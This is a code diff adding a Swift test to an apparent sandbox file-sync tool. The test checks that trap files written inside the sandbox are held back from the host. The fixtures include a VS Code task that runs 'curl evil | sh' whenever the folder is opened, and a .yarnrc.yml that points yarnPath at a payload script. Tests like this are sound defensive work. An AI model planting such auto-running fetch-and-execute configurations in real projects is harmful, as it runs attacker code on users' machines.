@@ -75,6 +75,25 @@ import Testing
         #expect(Set(next.applied) == ["main.py", "deploy.sh"])
     }
 
+    @Test func aTrapAtAnyDepthHoldsTheWholeRound() throws {
+        let f = try Fixture()
+        f.upper.write("main.py", "print('v2')\n")
+        f.upper.write("tools/.vscode/tasks.json", #"{"tasks":[{"label":"x","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}"#)
+        f.upper.write("web/app/.yarnrc.yml", "yarnPath: ./payload.cjs\n")
+        let held = try f.sync.round(overlayMounted: true)
+        #expect(held.applied.isEmpty)
+        #expect(Set(held.held).isSuperset(of: ["tools/.vscode/tasks.json", "web/app/.yarnrc.yml"]))
+        #expect(held.findings.contains { $0.ruleID == "trap-editor" && $0.path == "tools/.vscode/tasks.json" })
+        #expect(held.findings.contains { $0.ruleID == "trap-package-manager" && $0.path == "web/app/.yarnrc.yml" })
+        #expect(f.lower.read("main.py") == "print('v1')\n")
+        #expect(f.lower.read("tools/.vscode/tasks.json") == nil)
+        // The last round after the sandbox exits holds them too: only `cordon sync` with approval applies them.
+        let last = try f.sync.finish()
+        #expect(last.applied.isEmpty)
+        #expect(f.lower.read("web/app/.yarnrc.yml") == nil)
+        #expect(f.upper.read("tools/.vscode/tasks.json") != nil)
+    }
+
     @Test func aHostEditByTheUserIsAConflictNotOverwritten() throws {
         let f = try Fixture()
         usleep(50_000)  // file times come from the kernel's coarse clock: stay clear of `created`
